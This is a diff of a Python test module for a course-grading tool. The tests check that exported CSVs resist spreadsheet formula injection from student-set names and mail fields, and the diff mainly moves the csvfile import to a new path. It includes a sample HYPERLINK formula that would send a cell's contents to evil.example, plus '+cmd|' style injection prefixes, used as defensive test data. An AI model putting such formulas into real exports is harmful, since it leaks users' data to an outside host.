@@ -1,13 +1,13 @@
-"""Every CSV a term writes is safe to open (issue 64): with roster names as students set them
-in the LMS (``=HYPERLINK(...)``, ``+cmd|...``, ``@SUM``, ``-2+3``) and mail subjects, file names
+"""Every CSV a term writes is safe to open (issue 64): with roster names as students set them in
+the LMS (``=HYPERLINK(...)``, ``+cmd|...``, ``@SUM``, ``-2+3``) and mail subjects, file names
 and a Message-ID like them, the real commands run (collect, final with its Canvas and Moodle
 files, marks export, audit) and no cell of any CSV they write is one a spreadsheet would run;
 the numbers stay numbers, and the LMS files still import as the LMS tests read them. The other
-writers of grader/csvfile.py: `grader grade` (grades.csv, also rewritten by `grader watch` and
-the web regrade) and `grader similarity` (pairs.csv), whose students are named by the hand-ins'
-file names, and `grader roster --from-lti` (roster.csv). `grader variants`' CSV holds roster ids
-(which start with a letter or digit: grader/roster/people.py) and the instructor's definitions,
-nothing a student sets."""
+writers of grader/outputs/csvfile.py: `grader grade` (grades.csv, also rewritten by `grader
+watch` and the web regrade) and `grader similarity` (pairs.csv), whose students are named by the
+hand-ins' file names, and `grader roster --from-lti` (roster.csv). `grader variants`' CSV holds
+roster ids (which start with a letter or digit: grader/roster/people.py) and the instructor's
+definitions, nothing a student sets."""
 
 from __future__ import annotations
 
@@ -26,9 +26,9 @@ from mailkit import gmail, notebook, takeout_mbox
 from sandbox_fence import FENCE
 
 from grader import cli
-from grader.csvfile import plain_cell, safe_cell
 from grader.gradebook.course_book import CourseBook
 from grader.lms.lti.members import write_roster
+from grader.outputs.csvfile import plain_cell, safe_cell
 from grader.roster import Person, load_roster
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?g="&D2,"open")'
